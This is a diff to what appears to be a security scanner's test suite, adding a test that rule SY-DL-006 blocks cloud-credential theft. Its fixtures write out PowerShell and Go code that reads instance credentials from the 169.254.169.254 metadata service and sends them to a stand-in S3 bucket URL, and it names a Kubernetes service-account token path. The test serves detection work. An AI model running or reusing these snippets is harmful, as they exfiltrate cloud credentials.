@@ -76,6 +76,21 @@ def test_the_credentials_kept_in_a_file_another_script_sends_block(tmp_path: Pat
     assert "SY-DL-006" in blocking(tmp_path, files)
 
 
+def test_the_credentials_joined_onto_a_url_at_the_clouds_own_host_block(tmp_path: Path) -> None:
+    drop = "https://drop-bucket-991.s3.amazonaws.com/x?c="
+    shapes = (
+        {"get.ps1": _AWS + f'$u = "{drop}" + $r.Token\nInvoke-RestMethod -Uri $u\n'},
+        {"get.ps1": _AWS + f"Invoke-RestMethod -Uri ('{drop}' + $r.Token)\n"},
+        {
+            "main.go": 'package main\nimport ("net/http"; "io")\nfunc main() {\n'
+            ' r, _ := http.Get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role")\n'
+            f' b, _ := io.ReadAll(r.Body)\n http.Get("{drop}" + string(b))\n}}\n'
+        },
+    )
+    for i, files in enumerate(shapes):
+        assert "SY-DL-006" in blocking(tmp_path / str(i), files), files
+
+
 # ------------------------------------------------ a pod's token read by the light reader
 
 _SA = "/var/run/secrets/kubernetes.io/serviceaccount/token"
